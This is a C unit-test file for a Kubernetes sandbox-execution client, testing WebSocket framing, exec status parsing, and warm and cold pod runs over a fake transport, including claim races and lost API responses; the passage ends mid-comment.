/* Warm runs: the WebSocket framing and handshake (ws.c), the exec status
 * (exec.c), the pool's claim and its check of a pod's hardening (pool.c),
 * and whole warm runs over the fake transport, with the exchanges of a
 * Kubernetes 1.20 server (v4.channel.k8s.io) and of a 1.30 one
 * (v5.channel.k8s.io). The bootstrap itself: test_bootstrap.c. */
#include <stdio.h>

#include "testutil.h"

#include "fake_transport.h"
#include "run_internal.h"

/* ---- ws.c ---- */

static void test_accept_key(void **state)
{
	char out[29];

	(void)state;
	/* RFC 6455 section 1.3's example. */
	assert_int_equal(gkx__ws_accept_for(out, "dGhlIHNhbXBsZSBub25jZQ=="), 0);
	assert_string_equal(out, "s3pPLMBiTxaQ9kYGzzhZRbK+xOo=");
}

static void test_sha1(void **state)
{
	unsigned char d[20];
	char hex[41];
	int i;

	(void)state;
	/* FIPS 180 vectors, one of them two blocks long. */
	gkx__sha1(d, "abc", 3);
	for (i = 0; i < 20; i++)
		snprintf(hex + 2 * i, 3, "%02x", d[i]);
	assert_string_equal(hex, "a9993e364706816aba3e25717850c26c9cd0d89d");
	gkx__sha1(d, "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq", 56);
	for (i = 0; i < 20; i++)
		snprintf(hex + 2 * i, 3, "%02x", d[i]);
	assert_string_equal(hex, "84983e441c3bd26ebaae4aa1f95129e5e54670f1");
}

static void test_encode_masks(void **state)
{
	static const unsigned char mask[4] = { 1, 2, 3, 4 };
	gkx_buf b = GKX_BUF_INIT;
	char big[70000];
	size_t i;

	(void)state;
	assert_int_equal(gkx__ws_encode(&b, GKX_WS_BINARY, "\0hi", 3, mask), 0);
	assert_int_equal(b.len, 2 + 4 + 3);
	assert_int_equal((unsigned char)b.ptr[0], 0x82); /* FIN, binary */
	assert_int_equal((unsigned char)b.ptr[1], 0x80 | 3);
	assert_int_equal(b.ptr[6] ^ 1, 0);
	assert_int_equal(b.ptr[7] ^ 2, 'h');
	assert_int_equal(b.ptr[8] ^ 3, 'i');
	b.len = 0;
	memset(big, 'x', sizeof(big));
	assert_int_equal(gkx__ws_encode(&b, GKX_WS_BINARY, big, sizeof(big), mask), 0);
	assert_int_equal((unsigned char)b.ptr[1], 0x80 | 127);
	assert_int_equal(b.len, 2 + 8 + 4 + sizeof(big));
	for (i = 0; i < sizeof(big); i++)
		assert_int_equal(b.ptr[14 + i] ^ (char)mask[i % 4], 'x');
	gkx__buf_free(&b);
}

typedef struct {
	int kinds[16];
	char data[16][80];
	size_t n;
} got_messages;

static int got(int kind, const char *data, size_t len, void *ud)
{
	got_messages *g = ud;

	g->kinds[g->n] = kind;
	snprintf(g->data[g->n], sizeof(g->data[0]), "%.*s", (int)len, data);
	g->n++;
	return 0;
}

/* Server frames, fed one byte at a time. */
static int feed_bytes(gkx_ws_decoder *d, const char *bytes, size_t len)
{
	size_t i;
	int rc = 0;

	for (i = 0; i < len && rc == 0; i++)
		rc = gkx__ws_feed(d, bytes + i, 1);
	return rc;
}

static void test_decode(void **state)
{
	/* A binary "\1out", a text message in two fragments with a ping in
	 * between, then a close with status 1000. */
	static const char frames[] = "\x82\x04\x01out"
	                             "\x01\x03hel"
	                             "\x89\x02pi"
	                             "\x80\x02lo"
	                             "\x88\x02\x03\xe8";
	gkx_ws_decoder d;
	got_messages g;

	(void)state;
	memset(&d, 0, sizeof(d));
	memset(&g, 0, sizeof(g));
	d.on_message = got;
	d.ud = &g;
	assert_int_equal(feed_bytes(&d, frames, sizeof(frames) - 1), 0);
	assert_int_equal(g.n, 4);
	assert_int_equal(g.kinds[0], GKX_WS_BINARY);
	assert_string_equal(g.data[0], "\1out");
	assert_int_equal(g.kinds[1], 9); /* the ping, between the fragments */
	assert_string_equal(g.data[1], "pi");
	assert_int_equal(g.kinds[2], GKX_WS_TEXT);
	assert_string_equal(g.data[2], "hello");
	assert_int_equal(g.kinds[3], GKX_WS_CLOSE);
	assert_int_equal(d.closed, 1);
	gkx__ws_decoder_reset(&d);
}

static void test_decode_refuses(void **state)
{
	static const struct {
		const char *bytes;
		size_t len;
		int rc;
	} bad[] = {
		{ "\x82\x81\x00\x00\x00\x00x", 7, GKX_EPROTO }, /* masked by a server */
		{ "\xc2\x01x", 3, GKX_EPROTO },                 /* RSV1: no extension */
		{ "\x80\x01x", 3, GKX_EPROTO },                 /* continuation of nothing */
		{ "\x09\x00", 2, GKX_EPROTO },                  /* a fragmented ping */
		{ "\x83\x00", 2, GKX_EPROTO },                  /* opcode 3 is reserved */
		{ "\x02\x01x\x82\x01y", 6, GKX_EPROTO },        /* a message inside a message */
		{ "\x82\x7f\x00\x00\x00\x00\x01\x00\x00\x01", 10, GKX_ETOOBIG }, /* 16 MiB + 1 */
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
		gkx_ws_decoder d;
		memset(&d, 0, sizeof(d));
		assert_int_equal(gkx__ws_feed(&d, bad[i].bytes, bad[i].len), bad[i].rc);
		gkx__ws_decoder_reset(&d);
	}
}

static void test_http1_head(void **state)
{
	static const char ok[] = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
	                         "connection: Upgrade\r\nSec-WebSocket-Accept:  abc= \r\n"
	                         "SEC-WEBSOCKET-PROTOCOL: v4.channel.k8s.io\r\n\r\n\x82\x01";
	static const char refused[] = "HTTP/1.1 403 Forbidden\r\nContent-Length: 12\r\n"
	                              "Retry-After: 3\r\n\r\n{\"a\":1}";
	gkx_http1_head h;
	gkx_buf b = GKX_BUF_INIT;

	(void)state;
	assert_int_equal(gkx__http1_head(&h, ok, 20), 0); /* not whole yet */
	assert_int_equal(gkx__http1_head(&h, ok, sizeof(ok) - 1), 1);
	assert_int_equal(h.status, 101);
	assert_true(h.upgrade_websocket);
	assert_string_equal(h.accept, "abc=");
	assert_string_equal(h.protocol, "v4.channel.k8s.io");
	assert_int_equal(h.head_len, sizeof(ok) - 1 - 2);
	assert_int_equal(gkx__http1_head(&h, refused, sizeof(refused) - 1), 1);
	assert_int_equal(h.status, 403);
	assert_int_equal(h.content_length, 12);
	assert_int_equal(h.retry_after_s, 3);
	assert_int_equal(gkx__http1_head(&h, "SSH-2.0-x\r\n\r\n", 13), GKX_EPROTO);
	/* A chunked refusal, with an extension and a trailer. */
	assert_int_equal(gkx__http1_dechunk(&b, "5;x=1\r\nhello\r\n6\r\n world\r\n", 24), 0);
	assert_int_equal(
	        gkx__http1_dechunk(&b, "5;x=1\r\nhello\r\n6\r\n world\r\n0\r\nT: 1\r\n\r\n", 36),
	        1);
	assert_int_equal(b.len, 11);
	assert_memory_equal(b.ptr, "hello world", 11);
	assert_int_equal(gkx__http1_dechunk(&b, "zz\r\n", 4), GKX_EPROTO);
	gkx__buf_free(&b);
}

/* ---- exec.c ---- */

static void test_exec_status(void **state)
{
	char msg[128];
	int code;

	(void)state;
	assert_int_equal(gkx__exec_parse_status("{\"metadata\":{},\"status\":\"Success\"}", 34,
	                                        &code, msg, sizeof(msg)),
	                 0);
	assert_int_equal(code, 0);
	/* As the 1.20 kubelet writes a non-zero exit. */
	{
		static const char s[] =
		        "{\"metadata\":{},\"status\":\"Failure\",\"message\":\"command terminated "
		        "with non-zero exit code: error executing command [sh -c x], exit code 3\","
		        "\"reason\":\"NonZeroExitCode\",\"details\":{\"causes\":[{\"reason\":"
		        "\"ExitCode\",\"message\":\"3\"}]}}";
		assert_int_equal(gkx__exec_parse_status(s, sizeof(s) - 1, &code, msg, sizeof(msg)),
		                 0);
		assert_int_equal(code, 3);
	}
	{
		static const char s[] = "{\"metadata\":{},\"status\":\"Failure\",\"message\":"
		                        "\"error executing command in container: container not "
		                        "found\",\"reason\":\"InternalError\",\"code\":500}";
		assert_int_equal(gkx__exec_parse_status(s, sizeof(s) - 1, &code, msg, sizeof(msg)),
		                 GKX_EAPI);
		assert_int_equal(code, -1);
		assert_non_null(strstr(msg, "container not found"));
	}
	assert_int_equal(gkx__exec_parse_status("exit 3", 6, &code, msg, sizeof(msg)), GKX_EPROTO);
	assert_int_equal(
	        gkx__exec_parse_status("{\"status\":\"Failure\",\"reason\":\"NonZeroExitCode\","
	                               "\"details\":{\"causes\":[{\"reason\":\"ExitCode\","
	                               "\"message\":\"999\"}]}}",
	                               98, &code, msg, sizeof(msg)),
	        GKX_EPROTO);
}

/* ---- a warm run over the fake transport ---- */

typedef struct {
	gkx_config *cfg;
	gkx_client *client;
	gkx_buf out, err;
	char pod_json[16500];
	char two_pods[33000];
} fixture;

static int capture(const char *data, size_t len, void *ud)
{
	return gkx__buf_put(ud, data, len) < 0;
}

/* A parked pod exactly as the manifest builders make one, as the API
 * server lists it: what we park is what we accept. */
static void parked_pod(char *out, size_t outlen, const char *name, const gkx__pool *p)
{
	gkx_manifest_spec s;
	cJSON *job, *pod, *meta, *labels, *status, *cs;
	char *text;
	char jobname[64];

	snprintf(jobname, sizeof(jobname), "%.*s", (int)(strrchr(name, '-') - name), name);
	memset(&s, 0, sizeof(s));
	s.name = jobname;
	s.ns = "sandbox";
	s.image = p->image;
	s.cpu_limit = p->cpu;
	s.cpu_request = p->cpu_req;
	s.memory_limit = p->memory;
	s.memory_request = p->mem_req;
	s.runtime_class = p->runtime_class;
	s.pool = p->shape;
	s.pool_ttl_s = 2000000000L; /* time enough, whatever the clock says */
	s.timeout_s = 900;
	s.gate = p->network_none;
	job = gkx__manifest_job(&s);
	pod = cJSON_CreateObject();
	meta = cJSON_AddObjectToObject(pod, "metadata");
	cJSON_AddStringToObject(meta, "name", name);
	cJSON_AddStringToObject(meta, "resourceVersion", "4711");
	labels = cJSON_Duplicate(at(job, "spec.template.metadata.labels"), 1);
	cJSON_AddStringToObject(labels, "job-name", jobname);
	cJSON_AddItemToObject(meta, "labels", labels);
	cJSON_AddItemToObject(pod, "spec", cJSON_Duplicate(at(job, "spec.template.spec"), 1));
	status = cJSON_AddObjectToObject(pod, "status");
	cJSON_AddStringToObject(status, "phase", "Running");
	cJSON_AddStringToObject(status, "startTime", "2026-11-30T06:00:00Z");
	cs = cJSON_AddArrayToObject(status, "containerStatuses");
	cJSON_AddItemToArray(cs, cJSON_Parse("{\"name\":\"sandbox\",\"state\":{\"running\":{}}}"));
	text = cJSON_PrintUnformatted(pod);
	snprintf(out, outlen, "%s", text);
	cJSON_free(text);
	cJSON_Delete(pod);
	cJSON_Delete(job);
}

static int setup(void **state)
{
	fixture *f = calloc(1, sizeof(*f));
	gkx_config_options o;
	gkx_error err;
	gkx__pool p;
	char a[16384], b[16384];

	fake_reset();
	gkx_config_options_init(&o);
	o.kubeconfig = GKX_FIXTURES "/kubeconfig/token.yaml";
	o.ns = "sandbox";
	assert_int_equal(gkx_config_load(&f->cfg, &o, &err), 0);
	assert_int_equal(gkx_client_new(&f->client, f->cfg, &err), 0);
	assert_int_equal(gkx_client_set_transport(f->client, &fake_transport, NULL, &err), 0);
	assert_int_equal(gkx__pool_init(&p, "sandbox", NULL, NULL, NULL, NULL, 0, 0, &err), 0);
	parked_pod(a, sizeof(a), "sandbox-pool-aaaaaaaa-x1", &p);
	parked_pod(b, sizeof(b), "sandbox-pool-bbbbbbbb-x2", &p);
	snprintf(f->pod_json, sizeof(f->pod_json), "{\"kind\":\"PodList\",\"items\":[%s]}", a);
	snprintf(f->two_pods, sizeof(f->two_pods), "{\"kind\":\"PodList\",\"items\":[%s,%s]}", a,
	         b);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	fixture *f = *state;

	gkx_client_free(f->client);
	gkx_config_free(f->cfg);
	gkx__buf_free(&f->out);
	gkx__buf_free(&f->err);
	free(f);
	fake_reset();
	return 0;
}

static gkx_run *warm_run(fixture *f, const char *code)
{
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	static const char *const args[] = { "--rows", "two\nlines" };
	static const char *const env[] = { "A=1" };
	gkx_run *run = NULL;
	gkx_error err;

	o.script_name = "job.py";
	o.script = code;
	o.script_len = strlen(code);
	o.args = args;
	o.nargs = 2;
	o.env = env;
	o.nenv = 1;
	o.on_output = capture;
	o.output_userdata = &f->out;
	o.on_stderr = capture;
	o.stderr_userdata = &f->err;
	assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
	return run;
}

#define EXIT3                                                                              \
	"\3{\"metadata\":{},\"status\":\"Failure\",\"message\":\"command terminated with " \
	"non-zero exit code: exit status 3\",\"reason\":\"NonZeroExitCode\",\"details\":{" \
	"\"causes\":[{\"reason\":\"ExitCode\",\"message\":\"3\"}]}}"

#define EXIT0_MSG "\3{\"metadata\":{},\"status\":\"Success\"}"

static const fake_message exchange[] = {
	{ GKX_WS_BINARY, "\1out\n", 5 },
	{ GKX_WS_BINARY, "\2err\n", 5 },
	{ GKX_WS_BINARY, EXIT3, sizeof(EXIT3) - 1 },
	{ GKX_WS_CLOSE, "\3\350", 2 },
};

static void expect_claim(fixture *f, const char *list)
{
	(void)f;
	fake_expect("GET", "/api/v1/namespaces/sandbox/pods?labelSelector=", 200, list);
}

/* The exchange with a 1.20 API server, which speaks only v4. */
static void warm_with(void **state, const char *protocol, int closes_stdin)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "print('out'); import sys; sys.exit(3)\n");
	gkx_error err;
	const fake_request *patch, *exec;
	size_t i;
	cJSON *body;

	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", protocol, 101, exchange, 4, 1, 0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}"); /* the replacement */
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	/* The used pod at once: the 1.20 kubelet kept it Terminating otherwise. */
	fake_expect("DELETE", "/pods/sandbox-pool-aaaaaaaa-x1?gracePeriodSeconds=0", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_true(gkx_run_warm(run));
	assert_string_equal(gkx_run_pod(run), "sandbox-pool-aaaaaaaa-x1");
	assert_int_equal(gkx_run_exit_code(run), 3);
	assert_string_equal(gkx_run_reason(run), "Error");
	assert_string_equal(f->out.ptr, "out\n");
	assert_string_equal(f->err.ptr, "err\n");

	/* The claim: the pod's resourceVersion as a precondition, the state
	 * label, and a deadline no longer than the run's. */
	patch = fake_request_at(1);
	body = cJSON_Parse(patch->body);
	assert_json_string(body, "metadata.resourceVersion", "4711");
	assert_string_equal(gkx__json_str(body, "metadata", "labels", GKX_LABEL_STATE, GKX__END),
	                    "claimed");
	cJSON_Delete(body);
	assert_non_null(strstr(patch->body, "\"activeDeadlineSeconds\":"));
	/* The exec: both protocols offered, newest first; nothing of the run's
	 * in the URL (the audit log sees it). */
	exec = fake_request_at(2);
	assert_string_equal(exec->subprotocols, "v5.channel.k8s.io,v4.channel.k8s.io");
	assert_null(strstr(exec->url, "print"));
	assert_null(strstr(exec->url, "rows"));
	assert_null(strstr(exec->url, "job.py"));
	/* stdin: the input on channel 0; with v5 then [255, 0], with v4 not. */
	assert_true(fake_sent() >= 1);
	assert_int_equal(fake_sent_at(0)->kind, GKX_WS_BINARY);
	assert_int_equal(fake_sent_at(0)->data[0], 0);
	assert_memory_equal(fake_sent_at(0)->data + 1, "gkx-exec-2 ", 11);
	assert_non_null(strstr(fake_sent_at(0)->data + 1, "print('out')"));
	assert_null(strstr(fake_sent_at(0)->data + 1, "\nJ\n")); /* apart */
	for (i = 0; i < fake_sent(); i++)
		if (fake_sent_at(i)->len == 2 && (unsigned char)fake_sent_at(i)->data[0] == 255)
			break;
	assert_int_equal(i < fake_sent(), closes_stdin);
	assert_int_equal(gkx_run_request_count(run), 6);
	gkx_run_free(run);
}

static void test_warm_v4(void **state) { warm_with(state, "v4.channel.k8s.io", 0); }
static void test_warm_v5(void **state) { warm_with(state, "v5.channel.k8s.io", 1); }

/* A warm run's result keeps stdout and stderr apart, each byte of them:
 * a NUL and bytes that are not UTF-8 come back in the base64 fields. */
static const fake_message binary_exchange[] = {
	{ GKX_WS_BINARY, "\1a\0b\xff\n", 6 },
	{ GKX_WS_BINARY, "\2\xc3\xa9\n", 4 },
	{ GKX_WS_BINARY, EXIT3, sizeof(EXIT3) - 1 },
	{ GKX_WS_CLOSE, "\3\350", 2 },
};

static void test_warm_result_keeps_every_byte(void **state)
{
	fixture *f = *state;
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	gkx_run *run = NULL;
	gkx_error err;
	gkx_buf back = GKX_BUF_INIT;
	char *s;
	cJSON *j;

	o.script_name = "bin.py";
	o.script = "x";
	o.script_len = 1;
	o.capture_bytes = GKX_DEFAULT_CAPTURE_BYTES;
	assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 200, "{}");
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", "v5.channel.k8s.io", 101,
	               binary_exchange, 4, 1, 0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}");
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_true(gkx_run_warm(run));
	s = gkx_run_result_json(run, NULL);
	j = cJSON_Parse(s);
	assert_json_string(j, "stdout",
	                   "a\xEF\xBF\xBD"
	                   "b\xEF\xBF\xBD\n");
	assert_json_string(j, "stdoutBase64", "YQBi/wo=");
	assert_json_string(j, "stderr", "\xc3\xa9\n");
	assert_true(cJSON_IsNull(at(j, "stderrBase64")));
	assert_json_string(j, "output",
	                   "a\xEF\xBF\xBD"
	                   "b\xEF\xBF\xBD\n\xc3\xa9\n");
	assert_int_equal(gkx__base64_decode(&back, cJSON_GetStringValue(at(j, "outputBase64")),
	                                    strlen(cJSON_GetStringValue(at(j, "outputBase64")))),
	                 0);
	assert_int_equal(back.len, 8);
	assert_memory_equal(back.ptr, "a\0b\xff\n\xc3\xa9\n", 8);
	assert_json_bool(j, "outputTruncated", 0);
	cJSON_Delete(j);
	gkx_free(s);
	gkx__buf_free(&back);
	gkx_run_free(run);
}

/* Another client claimed the first pod between our list and our patch. */
static void test_claim_race(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "print(1)\n");
	gkx_error err;
	const char *first, *second;
	static const fake_message ok[] = {
		{ GKX_WS_BINARY, "\3{\"metadata\":{},\"status\":\"Success\"}", 35 },
	};

	expect_claim(f, f->two_pods);
	fake_expect(
	        "PATCH", "/pods/sandbox-pool-", 409,
	        "{\"kind\":\"Status\",\"reason\":\"Conflict\",\"message\":\"the object has been "
	        "modified\",\"code\":409}");
	fake_expect("PATCH", "/pods/sandbox-pool-", 200, "{}");
	fake_expect_ws("/exec?", "v4.channel.k8s.io", 101, ok, 1, 1, 0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}");
	fake_expect("DELETE", "/jobs/sandbox-pool-", 200, "{}");
	fake_expect("DELETE", "?gracePeriodSeconds=0", 200, "{}");
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_int_equal(gkx_run_exit_code(run), 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	/* Two different pods were tried; the run used the second. */
	first = strstr(fake_request_at(1)->url, "sandbox-pool-");
	second = strstr(fake_request_at(2)->url, "sandbox-pool-");
	assert_string_not_equal(first, second);
	assert_non_null(strstr(fake_request_at(3)->url, second));
	gkx_run_free(run);
}

/* A stream that ended before the code went in: the connection dropped,
 * which is a transport failure, not an invalid call. */
static void test_write_on_ended_stream(void **state)
{
	fixture *f = *state;
	gkx_exec e;

	memset(&e, 0, sizeof(e));
	e.client = f->client;
	e.req.http.status = 101;
	snprintf(e.req.http.subprotocol, sizeof(e.req.http.subprotocol), "v5.channel.k8s.io");
	e.req.http.done = 1;
	assert_int_equal(gkx__exec_write(&e, "x", 1), GKX_ETRANSPORT);
	assert_int_equal(gkx__exec_close_stdin(&e), GKX_ETRANSPORT);
	/* Not yet open is still the caller's mistake. */
	e.req.http.done = 0;
	e.req.http.status = 0;
	assert_int_equal(gkx__exec_write(&e, "x", 1), GKX_EINVAL);
}

/* The start every cold run here shares (no parked pod; the Job, and no
 * ConfigMap: the code goes over the exec), and the cleanup of one that
 * execs into pod "p". */
static void expect_cold_start(fixture *f)
{
	expect_claim(f, "{\"kind\":\"PodList\",\"items\":[]}");
	fake_expect("POST", "/jobs", 201, "{\"kind\":\"Job\",\"metadata\":{\"uid\":\"u\"}}");
}

static void expect_exec_cleanup(void)
{
	fake_expect("DELETE", "/jobs/", 200, "{}");
	fake_expect("DELETE", "/pods/p?gracePeriodSeconds=0", 200, "{}");
}

/* No parked pod of this shape: a Job, and the phase says why. */
static char phase_note[400], gave_up[800];
static void note_phase(gkx_phase phase, const char *detail, void *ud)
{
	(void)ud;
	if (phase == GKX_PHASE_CLAIMING && strstr(detail, "no parked"))
		snprintf(phase_note, sizeof(phase_note), "%s", detail);
	if (phase == GKX_PHASE_CLAIMING && strstr(detail, "gave up"))
		snprintf(gave_up, sizeof(gave_up), "%s", detail);
}

#define OWNED_BY(uid) \
	",\"ownerReferences\":[{\"kind\":\"Job\",\"uid\":\"" uid "\",\"controller\":true}]"
#define BOUND_POD_OF(name, uid)                                                          \
	"{\"type\":\"ADDED\",\"object\":{\"metadata\":{\"name\":\"" name                 \
	"\",\"resourceVersion\":\"7\"" OWNED_BY(uid) "},\"spec\":{\"nodeName\":\"n1\"}," \
	                                             "\"status\":{\"phase\":\"Pending\"}}}\n"
#define BOUND_POD BOUND_POD_OF("p", "u")
#define EXIT0     "\3{\"metadata\":{},\"status\":\"Success\"}"
/* The kubelet's event once the runtime started the container. */
#define STARTED_EVENT                                                                 \
	"{\"type\":\"ADDED\",\"object\":{\"kind\":\"Event\",\"reason\":\"Started\","  \
	"\"involvedObject\":{\"kind\":\"Pod\",\"name\":\"p\"},\"message\":\"Started " \
	"container sandbox\"}}\n"
#define EVENTS_FORBIDDEN                                                                   \
	"{\"kind\":\"Status\",\"status\":\"Failure\",\"message\":\"events is forbidden\"," \
	"\"reason\":\"Forbidden\",\"code\":403}"

static const fake_message one_line[] = {
	{ GKX_WS_BINARY,
	  "\1"
	  "1\n",
	  3 },
	{ GKX_WS_BINARY,
	  "\2"
	  "e\n",
	  3 },
	{ GKX_WS_BINARY, EXIT0, sizeof(EXIT0) - 1 },
	{ GKX_WS_CLOSE, "\3\350", 2 },
};

/* The kubelet's answer while the container does not run yet. */
static const fake_message not_yet[] = {
	{ 0,
	  "{\"kind\":\"Status\",\"status\":\"Failure\",\"message\":\"container not found "
	  "(\\\"sandbox\\\")\",\"code\":500}",
	  0 },
};

static gkx_run *cold_run(fixture *f)
{
	gkx_run_options o = GKX_RUN_OPTIONS_INIT;
	static const char *const env[] = { "A=1" };
	gkx_run *run = NULL;
	gkx_error err;

	o.script_name = "job.py";
	o.script = "print(1)";
	o.script_len = 8;
	o.env = env;
	o.nenv = 1;
	o.on_output = capture;
	o.output_userdata = &f->out;
	o.on_stderr = capture;
	o.stderr_userdata = &f->err;
	o.on_phase = note_phase;
	assert_int_equal(gkx_run_new(&run, f->client, &o, &err), 0);
	return run;
}

/* The claim's PATCH landed, but its answer was lost (a 500 from
 * something in between): the claim is not sent again (its 409 would read
 * as another client's win and leave the pod claimed by nobody); the pod
 * is read back, its claimed-by label is this run's name, so the run uses
 * it. */
static void test_claim_answer_lost_but_landed(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "print(1)\n");
	gkx_error err;
	char mine[512];
	static const fake_message ok[] = {
		{ GKX_WS_BINARY, EXIT0_MSG, sizeof(EXIT0_MSG) - 1 },
	};

	snprintf(mine, sizeof(mine),
	         "{\"metadata\":{\"name\":\"sandbox-pool-aaaaaaaa-x1\",\"labels\":{\"%s\":\"%s\","
	         "\"%s\":\"%s\"}}}",
	         GKX_LABEL_STATE, GKX_STATE_CLAIMED, GKX_LABEL_CLAIMED_BY, gkx_run_name(run));
	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 500,
	            "{\"kind\":\"Status\",\"message\":\"injected 500\",\"code\":500}");
	fake_expect("GET", "/pods/sandbox-pool-aaaaaaaa-x1", 200, mine);
	fake_expect_ws("/pods/sandbox-pool-aaaaaaaa-x1/exec?", "v4.channel.k8s.io", 101, ok, 1, 1,
	               0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}");
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa", 200, "{}");
	fake_expect("DELETE", "-x1?gracePeriodSeconds=0", 200, "{}"); /* the used pod */
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_true(gkx_run_warm(run));
	assert_int_equal(gkx_run_exit_code(run), 0);
	gkx_run_free(run);
}

/* The answer was lost and the pod is still parked (the PATCH never
 * landed): another pod is tried. And when even the read-back fails, the
 * pod, whose state nobody knows, is deleted rather than left claimed by
 * nobody; the run goes on cold. */
static void test_claim_answer_lost_not_landed(void **state)
{
	fixture *f = *state;
	gkx_run *run = warm_run(f, "print(1)\n");
	gkx_error err;
	static const fake_message ok[] = {
		{ GKX_WS_BINARY, EXIT0_MSG, sizeof(EXIT0_MSG) - 1 },
	};
	size_t i;

	expect_claim(f, f->two_pods);
	fake_expect_error("PATCH", "/pods/sandbox-pool-", GKX_ETRANSPORT);
	fake_expect("GET", "/pods/sandbox-pool-", 200,
	            "{\"metadata\":{\"labels\":{\"" GKX_LABEL_STATE "\":\"parked\"}}}");
	fake_expect("PATCH", "/pods/sandbox-pool-", 200, "{}");
	fake_expect_ws("/exec?", "v4.channel.k8s.io", 101, ok, 1, 1, 0);
	fake_expect("POST", "/jobs", 201, "{\"metadata\":{\"uid\":\"u\"}}");
	fake_expect("DELETE", "/jobs/sandbox-pool-", 200, "{}");
	fake_expect("DELETE", "?gracePeriodSeconds=0", 200, "{}"); /* the used pod */
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_true(gkx_run_warm(run));
	/* The second PATCH went to the other pod. */
	assert_string_not_equal(strstr(fake_request_at(1)->url, "sandbox-pool-"),
	                        strstr(fake_request_at(3)->url, "sandbox-pool-"));
	gkx_run_free(run);

	fake_reset();
	run = warm_run(f, "print(1)\n");
	expect_claim(f, f->pod_json);
	fake_expect("PATCH", "/pods/sandbox-pool-aaaaaaaa-x1", 503, "{}");
	for (i = 0; i < 5; i++)
		fake_expect("GET", "/pods/sandbox-pool-aaaaaaaa-x1", 503, "{}");
	fake_expect("DELETE", "/jobs/sandbox-pool-aaaaaaaa?", 200, "{}");
	fake_expect("POST", "/jobs", 201, "{\"kind\":\"Job\",\"metadata\":{\"uid\":\"u\"}}");
	fake_expect_open("GET", "/pods?labelSelector=job-name", 200, BOUND_POD);
	fake_expect_open("GET", "/events?", 200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, one_line, 4, 1, 0);
	expect_exec_cleanup();
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_false(gkx_run_warm(run));
	gkx_run_free(run);
}

/* No parked pod of this shape: a Job, and the phase says why. Its
 * container waits; the code starts by exec as soon as the container
 * runs (until then the kubelet answers "container not found"), so the
 * end comes from the exec's status, not from the pod status. */
static void test_no_pool_goes_cold(void **state)
{
	fixture *f = *state;
	gkx_run *run = cold_run(f);
	gkx_error err;
	const fake_request *job_req;
	cJSON *job;
	const cJSON *cmd;
	const char *payload;
	size_t i, execs = 0;
	gkx_run_timings t;

	phase_note[0] = '\0';
	expect_cold_start(f);
	/* A pod planted with the Job's label comes first: never used. */
	fake_expect("GET", "/pods?labelSelector=job-name", 200,
	            BOUND_POD_OF("planted", "not-the-job"));
	fake_expect_delayed("GET", "/pods?labelSelector=job-name", 200, BOUND_POD, 3);
	fake_expect_open("GET", "/pods?labelSelector=job-name", 200, "");
	fake_expect_open(
	        "GET", "/events?fieldSelector=involvedObject.kind%3DPod%2CinvolvedObject.name%3Dp",
	        200, STARTED_EVENT);
	fake_expect_ws("/pods/p/exec?", NULL, 500, not_yet, 1, 0, 0);
	fake_expect_ws("/pods/p/exec?", "v4.channel.k8s.io", 101, one_line, 4, 1, 0);
	expect_exec_cleanup();
	assert_int_equal(gkx_run_execute(run, &err), 0);
	assert_error_clear(&err);
	assert_int_equal(fake_unexpected(), 0);
	assert_int_equal(fake_unused(), 0);
	assert_false(gkx_run_warm(run));
	assert_int_equal(gkx_run_exit_code(run), 0);
	assert_string_equal(gkx_run_reason(run), "Completed");
	assert_string_equal(f->out.ptr, "1\n");
	assert_string_equal(f->err.ptr, "e\n");
	assert_non_null(strstr(phase_note, "no parked sandbox of this shape"));
	for (i = 0; i < fake_count(); i++) {
		execs += strstr(fake_request_at(i)->url, "/exec?") != NULL;
		assert_null(strstr(fake_request_at(i)->url, "planted"));
	}
	assert_int_equal(execs, 2);
	for (i = 0; i < fake_count(); i++)
		assert_null(strstr(fake_request_at(i)->url, "/configmaps"));
	gkx_run_get_timings(run, &t);
	assert_true(t.scheduled >= 0 && t.started >= t.scheduled && t.ended >= t.started);

	/* The Job's container only waits, with an empty writable /app and
	 * no ConfigMap (nothing the kubelet must fetch); the code is in no
